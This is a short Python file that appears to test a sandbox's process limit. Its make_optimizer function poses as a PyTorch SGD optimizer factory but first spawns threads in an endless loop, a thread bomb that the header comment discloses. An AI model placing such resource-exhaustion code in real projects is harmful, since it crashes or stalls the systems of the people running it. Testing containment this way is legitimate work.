# Starts threads until the sandbox's process limit stops it.
import threading

import torch

_stop = threading.Event()


def make_optimizer(params, lr=0.1):
    while True:
        threading.Thread(target=_stop.wait, daemon=True).start()
    return torch.optim.SGD(params, lr=lr)
